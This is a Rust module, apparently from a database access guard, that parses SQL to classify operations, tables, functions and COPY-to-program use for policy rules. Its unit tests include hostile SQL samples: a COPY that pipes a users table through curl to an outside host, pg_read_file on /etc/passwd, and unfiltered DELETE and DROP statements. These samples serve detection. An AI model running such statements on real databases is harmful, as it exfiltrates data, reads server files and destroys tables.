//! SQL analysis for policy: what each statement does and to which tables.
//!
//! Parsed with sqlparser's PostgreSQL dialect ([`analyze`]) or another one
//! ([`analyze_in`]: the MySQL guard's MySqlDialect), into one shape, so one
//! set of policy rules covers both databases. The analysis is deliberately
//! conservative: nested statements (data-modifying CTEs, PREPARE bodies) count
//! as what they are, table functions count as functions (not tables), and SQL
//! that does not parse is reported as such — the shipped policy denies it,
//! since what cannot be understood cannot be allowed.

use std::{collections::BTreeSet, ops::ControlFlow};

use serde::Serialize;
use sqlparser::{
    ast::{
        CopySource, CopyTarget, Expr, FromTable, ObjectName, Statement, TableFactor, TableObject,
        Visit, Visitor,
    },
    dialect::{Dialect, PostgreSqlDialect},
    parser::{Parser, ParserError},
    tokenizer::{Token, TokenWithSpan, Tokenizer},
};

/// One top-level statement, as policy sees it (`input.request.statements[]`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct StatementInfo {
    /// Lowercase keyword: select, insert, update, delete, drop, truncate,
    /// alter, grant, revoke, copy, create, prepare, execute, set, call, begin,
    /// commit, rollback, … ("other" when unknown).
    pub operation: String,
    /// Every operation inside, this one included (a `WITH d AS (DELETE …)
    /// SELECT` is `["select", "delete"]`).
    pub operations: Vec<String>,
    /// Every table referenced (read or written), normalised: unquoted
    /// identifiers lowercased, quotes removed, schema kept as written.
    pub tables: Vec<String>,
    pub tables_read: Vec<String>,
    pub tables_written: Vec<String>,
    /// For statements containing UPDATE or DELETE: whether every one of them
    /// has a WHERE clause. `true` when there is none.
    pub has_where: bool,
    /// Functions called anywhere (lowercased, schema stripped), including
    /// table functions in FROM.
    pub functions: Vec<String>,
    /// `COPY … TO/FROM PROGRAM` (runs a shell command on the server).
    pub copy_program: bool,
    /// `COPY … TO/FROM 'file'` (server-side file access).
    pub copy_file: bool,
    /// For PREPARE and EXECUTE: the prepared statement's name.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub prepared_name: Option<String>,
}

/// The analysis of one SQL string (which may hold many statements).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct SqlAnalysis {
    pub statements: Vec<StatementInfo>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub parse_error: Option<String>,
    /// The text lowercased with every literal replaced: numbers by `?`,
    /// quoted strings by `'?'` (`input.request.sql_shape`). Dollar-quoted
    /// bodies and identifiers stay: they are code, not data. Rules that
    /// read the text read this, so statements that differ only in their
    /// values share one cached decision.
    pub shape: String,
}

pub fn analyze(sql: &str) -> SqlAnalysis {
    analyze_in(&PostgreSqlDialect {}, sql)
}

/// The analysis with another dialect's grammar (identifiers quoted with
/// `"` or, in MySQL, with backticks, are normalised alike).
pub fn analyze_in(dialect: &dyn Dialect, sql: &str) -> SqlAnalysis {
    let parsed = Tokenizer::new(dialect, sql)
        .with_unescape(true)
        .tokenize_with_location()
        .map_err(ParserError::from)
        .and_then(|tokens| {
            let shape = shape(&tokens);
            Parser::new(dialect)
                .with_tokens_with_locations(tokens)
                .parse_statements()
                .map(|statements| (statements, shape))
        });
    match parsed {
        Ok((statements, shape)) => SqlAnalysis {
            statements: statements.iter().map(analyze_statement).collect(),
            parse_error: None,
            shape,
        },
        // Denied by the shipped rules anyway; the whole text is the shape.
        Err(e) => SqlAnalysis {
            statements: Vec::new(),
            parse_error: Some(e.to_string()),
            shape: sql.to_lowercase(),
        },
    }
}

fn shape(tokens: &[TokenWithSpan]) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    for t in tokens {
        match &t.token {
            Token::Number(..) => out.push('?'),
            Token::SingleQuotedString(_)
            | Token::TripleSingleQuotedString(_)
            | Token::SingleQuotedByteStringLiteral(_)
            | Token::DoubleQuotedByteStringLiteral(_)
            | Token::TripleSingleQuotedByteStringLiteral(_)
            | Token::TripleDoubleQuotedByteStringLiteral(_)
            | Token::SingleQuotedRawStringLiteral(_)
            | Token::DoubleQuotedRawStringLiteral(_)
            | Token::TripleSingleQuotedRawStringLiteral(_)
            | Token::TripleDoubleQuotedRawStringLiteral(_)
            | Token::NationalStringLiteral(_)
            | Token::EscapedStringLiteral(_)
            | Token::UnicodeStringLiteral(_)
            | Token::HexStringLiteral(_) => out.push_str("'?'"),
            other => {
                let _ = write!(out, "{other}");
            }
        }
    }
    out.make_ascii_lowercase();
    out
}

fn analyze_statement(stmt: &Statement) -> StatementInfo {
    let mut v = Collector::default();
    let _ = stmt.visit(&mut v);
    let written: BTreeSet<String> = v.written.iter().cloned().collect();
    let tables: BTreeSet<String> = v.relations.iter().chain(&v.written).cloned().collect();
    let read = tables.difference(&written).cloned().collect();
    let prepared_name = match stmt {
        Statement::Execute {
            name: Some(name), ..
        } => Some(normalize(name)),
        Statement::Prepare { name, .. } => Some(split_ident(&name.to_string())),
        _ => None,
    };
    StatementInfo {
        operation: operation(stmt),
        operations: v.operations,
        tables: tables.into_iter().collect(),
        tables_read: read,
        tables_written: written.into_iter().collect(),
        has_where: !v.unfiltered_write,
        functions: v.functions.into_iter().collect(),
        copy_program: v.copy_program,
        copy_file: v.copy_file,
        prepared_name,
    }
}

#[derive(Default)]
struct Collector {
    operations: Vec<String>,
    relations: Vec<String>,
    written: Vec<String>,
    functions: BTreeSet<String>,
    unfiltered_write: bool,
    copy_program: bool,
    copy_file: bool,
    /// Table-function names seen in FROM, reported as functions; the relation
    /// visitor sees them too and must skip them.
    table_functions: Vec<String>,
}

impl Visitor for Collector {
    type Break = ();

    fn pre_visit_statement(&mut self, stmt: &Statement) -> ControlFlow<()> {
        let op = operation(stmt);
        if !self.operations.contains(&op) {
            self.operations.push(op);
        }
        match stmt {
            Statement::Insert(i) => {
                if let TableObject::TableName(n) = &i.table {
                    self.written.push(normalize(n));
                }
            }
            Statement::Update(u) => {
                self.written.extend(factor_name(&u.table.relation));
                self.unfiltered_write |= u.selection.is_none();
            }
            Statement::Delete(d) => {
                self.written.extend(d.tables.iter().map(normalize));
                if d.tables.is_empty() {
                    let (FromTable::WithFromKeyword(from) | FromTable::WithoutKeyword(from)) =
                        &d.from;
                    self.written
                        .extend(from.iter().filter_map(|t| factor_name(&t.relation)));
                }
                self.unfiltered_write |= d.selection.is_none();
            }
            Statement::Truncate(t) => self
                .written
                .extend(t.table_names.iter().map(|t| normalize(&t.name))),
            Statement::Drop { names, .. } => self.written.extend(names.iter().map(normalize)),
            Statement::AlterTable(a) => self.written.push(normalize(&a.name)),
            Statement::CreateTable(c) => self.written.push(normalize(&c.name)),
            Statement::Merge(m) => self.written.extend(factor_name(&m.table)),
            Statement::Copy {
                source, to, target, ..
            } => {
                if let CopySource::Table { table_name, .. } = source {
                    // COPY t FROM … writes t; COPY t TO … reads it.
                    let list = if *to {
                        &mut self.relations
                    } else {
                        &mut self.written
                    };
                    list.push(normalize(table_name));
                }
                match target {
                    CopyTarget::Program { .. } => self.copy_program = true,
                    CopyTarget::File { .. } => self.copy_file = true,
                    CopyTarget::Stdin | CopyTarget::Stdout => {}
                }
            }
            Statement::Call(f) => {
                self.functions.insert(function_name(&f.name));
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        match factor {
            TableFactor::Table {
                name,
                args: Some(_),
                ..
            } => {
                self.functions.insert(function_name(name));
                self.table_functions.push(normalize(name));
            }
            TableFactor::Function { name, .. } => {
                self.functions.insert(function_name(name));
                self.table_functions.push(normalize(name));
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        let name = normalize(relation);
        if let Some(i) = self.table_functions.iter().position(|f| *f == name) {
            self.table_functions.swap_remove(i);
        } else {
            self.relations.push(name);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        if let Expr::Function(f) = expr {
            self.functions.insert(function_name(&f.name));
        }
        ControlFlow::Continue(())
    }
}

fn factor_name(factor: &TableFactor) -> Option<String> {
    match factor {
        TableFactor::Table { name, .. } => Some(normalize(name)),
        _ => None,
    }
}

/// `"Public".Users` → `Public.users`: PostgreSQL folds unquoted identifiers
/// to lower case, so `USERS` and `users` are the same table to policy.
fn normalize(name: &ObjectName) -> String {
    split_ident(&name.to_string())
}

/// A table name as written in SQL text, normalised like parsed ones.
pub fn normalize_name(name: &str) -> String {
    split_ident(name)
}

fn function_name(name: &ObjectName) -> String {
    let full = normalize(name);
    full.rsplit('.').next().unwrap_or(&full).to_owned()
}

fn split_ident(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '"' || c == '`' {
            // Quoted: keep case; a doubled quote is an escaped one.
            while let Some(q) = chars.next() {
                if q == c {
                    if chars.peek() == Some(&c) {
                        chars.next();
                        out.push(c);
                        continue;
                    }
                    break;
                }
                out.push(q);
            }
        } else {
            out.extend(c.to_lowercase());
        }
    }
    out
}

/// The statement's leading keyword, from its canonical rendering (which
/// sqlparser normalises: comments gone, keywords upper case).
fn operation(stmt: &Statement) -> String {
    let op = match stmt {
        Statement::Query(_) => "select",
        Statement::Insert(_) => "insert",
        Statement::Update(_) => "update",
        Statement::Delete(_) => "delete",
        Statement::Merge(_) => "merge",
        Statement::Truncate(_) => "truncate",
        Statement::Drop { .. } => "drop",
        Statement::AlterTable(_) => "alter",
        Statement::Grant(_) | Statement::GrantRole(_) => "grant",
        Statement::Revoke(_) | Statement::RevokeRole(_) => "revoke",
        Statement::Copy { .. } => "copy",
        Statement::Prepare { .. } => "prepare",
        Statement::Execute { .. } => "execute",
        Statement::Call(_) => "call",
        _ => {
            let text = stmt.to_string();
            let word = text
                .split_whitespace()
                .next()
                .unwrap_or("other")
                .to_ascii_lowercase();
            return match word.as_str() {
                "start" => "begin".to_owned(),
                "end" => "commit".to_owned(),
                w if w.chars().all(|c| c.is_ascii_alphabetic()) => word,
                _ => "other".to_owned(),
            };
        }
    };
    op.to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_shape_replaces_values_and_keeps_code() {
        let a =
            analyze("SELECT a FROM T WHERE b = 12 AND c = 'it''s' AND d = E'z\\n' AND e = 1.5e3");
        assert_eq!(
            a.shape,
            "select a from t where b = ? and c = '?' and d = '?' and e = ?"
        );
        // A function body is code: it stays, so its calls are visible.
        let a = analyze(
            "CREATE FUNCTION f() RETURNS text AS $$ SELECT pg_read_file('/x') $$ LANGUAGE sql",
        );
        assert!(a.shape.contains("pg_read_file('/x')"), "{}", a.shape);
        // Quoted identifiers are names, not values.
        assert!(
            analyze("SELECT \"Secret\" FROM t")
                .shape
                .contains("\"secret\"")
        );
        // Unparsable text: all of it.
        let a = analyze("SELEC 'oops' 42");
        assert!(a.parse_error.is_some());
        assert_eq!(a.shape, "selec 'oops' 42");
    }

    fn one(sql: &str) -> StatementInfo {
        let a = analyze(sql);
        assert!(a.parse_error.is_none(), "{sql}: {:?}", a.parse_error);
        assert_eq!(a.statements.len(), 1, "{sql}");
        a.statements.into_iter().next().expect("one statement")
    }

    #[test]
    fn select_reads_tables() {
        let s =
            one("SELECT u.email FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 10");
        assert_eq!(s.operation, "select");
        assert_eq!(s.tables_read, vec!["orders", "users"]);
        assert!(s.tables_written.is_empty());
    }

    #[test]
    fn casing_and_comments_do_not_hide_anything() {
        let s = one("/* harmless */ dElEtE -- really\n FROM \"Users\"");
        assert_eq!(s.operation, "delete");
        assert_eq!(s.tables_written, vec!["Users"]);
        assert!(!s.has_where);
        let s = one("DELETE FROM USERS WHERE id = 1");
        assert_eq!(s.tables_written, vec!["users"]);
        assert!(s.has_where);
    }

    #[test]
    fn update_without_where() {
        let s = one("UPDATE accounts SET balance = 0");
        assert_eq!((s.operation.as_str(), s.has_where), ("update", false));
        assert_eq!(s.tables_written, vec!["accounts"]);
        let s = one(
            "UPDATE accounts SET balance = 0 FROM users WHERE users.id = accounts.uid RETURNING *",
        );
        assert!(s.has_where);
        assert_eq!(s.tables_read, vec!["users"]);
    }

    #[test]
    fn multi_statement_string_is_split() {
        let a = analyze("SELECT 1; DROP TABLE users; select 2");
        let ops: Vec<_> = a.statements.iter().map(|s| s.operation.as_str()).collect();
        assert_eq!(ops, ["select", "drop", "select"]);
        assert_eq!(a.statements[1].tables_written, vec!["users"]);
    }

    #[test]
    fn data_modifying_cte_counts_as_a_delete() {
        let s = one("WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d");
        assert_eq!(s.operation, "select");
        assert!(s.operations.contains(&"delete".to_owned()), "{s:?}");
        assert_eq!(s.tables_written, vec!["users"]);
        assert!(!s.has_where);
    }

    #[test]
    fn insert_select_reads_and_writes() {
        let s = one("INSERT INTO archive SELECT * FROM orders WHERE created < now() RETURNING id");
        assert_eq!(s.tables_written, vec!["archive"]);
        assert_eq!(s.tables_read, vec!["orders"]);
        assert!(s.functions.contains(&"now".to_owned()));
    }

    #[test]
    fn functions_including_table_functions() {
        let s = one("SELECT pg_catalog.pg_read_file('/etc/passwd')");
        assert_eq!(s.functions, vec!["pg_read_file"]);
        let s = one("SELECT * FROM pg_ls_dir('.')");
        assert!(s.functions.contains(&"pg_ls_dir".to_owned()), "{s:?}");
        assert!(
            s.tables.is_empty(),
            "a table function is not a table: {s:?}"
        );
    }

    #[test]
    fn copy_program_and_file() {
        let s = one("COPY users TO PROGRAM 'curl -d @- http://x'");
        assert!(s.copy_program);
        let s = one("COPY users FROM '/tmp/x.csv'");
        assert!(s.copy_file);
        assert_eq!(s.tables_written, vec!["users"]);
        let s = one("COPY users TO STDOUT");
        assert!(!s.copy_program && !s.copy_file && s.tables_written.is_empty());
        assert_eq!(s.tables_read, vec!["users"]);
    }

    #[test]
    fn ddl_and_privileges() {
        assert_eq!(
            one("DROP TABLE IF EXISTS a, b").tables_written,
            vec!["a", "b"]
        );
        assert_eq!(one("TRUNCATE audit_log").operation, "truncate");
        assert_eq!(one("ALTER TABLE users ADD COLUMN x int").operation, "alter");
        assert_eq!(one("GRANT ALL ON users TO public").operation, "grant");
        assert_eq!(one("REVOKE SELECT ON users FROM bob").operation, "revoke");
        assert_eq!(one("CREATE TABLE t (id int)").operation, "create");
        assert_eq!(one("BEGIN").operation, "begin");
        assert_eq!(one("COMMIT").operation, "commit");
    }

    #[test]
    fn prepare_body_is_analysed() {
        let s = one("PREPARE p AS DELETE FROM users");
        assert_eq!(s.operation, "prepare");
        assert!(s.operations.contains(&"delete".to_owned()));
        assert!(!s.has_where);
        assert_eq!(s.prepared_name.as_deref(), Some("p"));
        let s = one("EXECUTE P");
        assert_eq!(s.operation, "execute");
        assert_eq!(
            s.prepared_name.as_deref(),
            Some("p"),
            "names fold like identifiers"
        );
    }

    #[test]
    fn unparsable_sql_is_reported() {
        let a = analyze("SELEC * FRM users");
        assert!(a.parse_error.is_some());
        assert!(a.statements.is_empty());
    }
}

#[cfg(test)]
mod do_blocks {
    #[test]
    fn do_block_is_opaque_and_flagged() {
        let a = super::analyze("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$");
        // Either sqlparser cannot parse it (policy denies parse errors) or it
        // is reported as a `do` statement (policy denies those): never as
        // something harmless.
        match a.statements.first() {
            Some(s) => assert_eq!(s.operation, "do", "{a:?}"),
            None => assert!(a.parse_error.is_some()),
        }
    }
}
